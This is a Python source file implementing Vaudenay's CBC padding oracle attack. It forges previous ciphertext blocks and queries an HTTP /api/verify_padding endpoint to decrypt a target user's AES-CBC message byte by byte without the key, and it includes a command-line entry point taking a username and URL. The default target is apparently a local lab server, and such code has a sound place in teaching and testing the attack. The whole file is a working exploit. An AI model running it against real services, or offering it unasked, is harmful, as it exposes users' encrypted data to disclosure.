#!/usr/bin/env python3
"""
Vaudenay Attack - CBC Padding Oracle

Exploits PKCS#7 padding validation to decrypt AES-CBC ciphertext
without knowing the encryption key.

Attack process:
  1. Split IV || C[0] || ... || C[n-1] into blocks
  2. Attack each block byte-by-byte from right to left, last block first
  3. For the byte at position pos (pad value p = block_size - pos), forge the
     previous block so every byte already recovered decrypts to p, then try
     candidates c: previous[pos] ^= c ^ p. The padding only validates when
     c is the real plaintext byte.
  4. The forged block is sent as IV' || C[i] behind the real IV, so the
     first block is attacked exactly like the others
  5. Strip the PKCS#7 padding of the reassembled plaintext

Usage: python3 -m blockattack.attack.aes.cbc.vaudenay_attack <username> [url]
"""

import base64
import sys
from typing import Callable

import requests
from tqdm import tqdm

from blockattack.attack.probing import probe
from blockattack.modes import BLOCK_SIZE, MisalignedInputError, split_blocks
from blockattack.padding import unpad

BASE_URL = "http://localhost:5000"

DecryptValidateOracle = Callable[[bytes], bool]


class RemotePaddingOracle:
    """Padding oracle served over HTTP by server_padding_oracle.create_app()."""

    def __init__(self, username: str, base_url: str = BASE_URL, session=None):
        self.username = username
        self.base_url = base_url.rstrip("/")
        self.session = session or requests.Session()

    def fetch(self) -> bytes:
        """Retrieve the user's encrypted message as IV || ciphertext."""
        response = self.session.post(f"{self.base_url}/api/encrypt",
                                     json={"username": self.username})
        response.raise_for_status()

        data = response.json()
        return base64.b64decode(data["iv"]) + base64.b64decode(data["ciphertext"])

    def __call__(self, ciphertext: bytes) -> bool:
        payload = {
            "iv": base64.b64encode(ciphertext[:BLOCK_SIZE]).decode(),
            "ciphertext": base64.b64encode(ciphertext[BLOCK_SIZE:]).decode(),
            "username": self.username,
        }
        response = self.session.post(f"{self.base_url}/api/verify_padding", json=payload)
        response.raise_for_status()
        return response.json().get("valid", False)


def _forge(previous: bytes, known: bytearray, pos: int, candidate: int) -> bytearray:
    """Previous block rewritten so bytes pos.. decrypt to the pad value if candidate is right."""
    bs = len(previous)
    pad_value = bs - pos
    forged = bytearray(previous)
    for k in range(pos + 1, bs):
        forged[k] ^= known[k] ^ pad_value
    forged[pos] ^= candidate ^ pad_value
    return forged


def attack_byte(oracle: DecryptValidateOracle, iv: bytes, previous: bytes, target: bytes,
                pos: int, known: bytearray, workers: int = 1) -> int:
    """
    Recover the plaintext byte at position pos of target.

    known holds the plaintext bytes already recovered after pos.
    """
    bs = len(target)
    pad_value = bs - pos
    # candidate == pad_value leaves the block untouched, which says nothing
    candidates = [c for c in range(256) if c != pad_value]

    def query(candidate):
        return oracle(iv + bytes(_forge(previous, known, pos, candidate)) + target)

    def confirm(candidate):
        # a pad of 1 must survive a change to the byte before it, longer
        # accidental paddings do not
        forged = _forge(previous, known, pos, candidate)
        forged[pos - 1] ^= 0xFF
        return oracle(iv + bytes(forged) + target)

    for candidate, valid in zip(candidates, probe(query, candidates, workers)):
        if not valid:
            continue
        if pad_value == 1 and bs > 1 and not confirm(candidate):
            continue
        return candidate

    # no candidate validated: the byte already equals the pad value
    return pad_value


def attack_block(oracle: DecryptValidateOracle, iv: bytes, previous: bytes, target: bytes,
                 workers: int = 1) -> bytes:
    """Decrypt one block given the ciphertext block (or IV) that precedes it."""
    bs = len(target)
    known = bytearray(bs)

    # Attack bytes from right to left
    for pos in range(bs - 1, -1, -1):
        known[pos] = attack_byte(oracle, iv, previous, target, pos, known, workers)

    return bytes(known)


def vaudenay_attack(oracle: DecryptValidateOracle, ciphertext: bytes,
                    block_size: int = BLOCK_SIZE, workers: int = 1,
                    verbose: bool = False) -> bytes:
    """
    Decrypt IV || C[0] || ... || C[n-1] with a padding oracle only.

    Returns the plaintext with its PKCS#7 padding removed, or the raw
    recovered bytes if that padding does not check out.
    """
    if len(ciphertext) % block_size != 0 or len(ciphertext) < 2 * block_size:
        raise MisalignedInputError(
            f"expected IV plus at least one {block_size}-byte block, got {len(ciphertext)} bytes")

    blocks = split_blocks(ciphertext, block_size)
    iv = blocks[0]
    if verbose:
        print(f"[*] Received {len(ciphertext)} bytes ({len(blocks) - 1} blocks)")

    # Attack each block, last one first
    decrypted = [b""] * len(blocks)
    for i in tqdm(range(len(blocks) - 1, 0, -1), desc="CBC blocks", disable=not verbose):
        decrypted[i] = attack_block(oracle, iv, blocks[i - 1], blocks[i], workers)

    plaintext = b"".join(decrypted)

    # Remove PKCS#7 padding
    message = unpad(plaintext, block_size)
    if message is None:
        if verbose:
            print("[-] Warning: padding removal failed, returning raw plaintext")
        return plaintext
    return message


if __name__ == "__main__":
    if len(sys.argv) < 2:
        print("Usage: python3 -m blockattack.attack.aes.cbc.vaudenay_attack <username> [url]")
        sys.exit(1)

    username = sys.argv[1]
    remote = RemotePaddingOracle(username, sys.argv[2] if len(sys.argv) > 2 else BASE_URL)

    try:
        print("Starting padding oracle attack...")
        print(f"Target user: {username}\n")
        result = vaudenay_attack(remote, remote.fetch(), verbose=True)
        print(f"Decrypted message:\n{result.decode(errors='replace')}")
    except requests.RequestException as e:
        print(f"\nAttack failed: {e}")
        sys.exit(1)
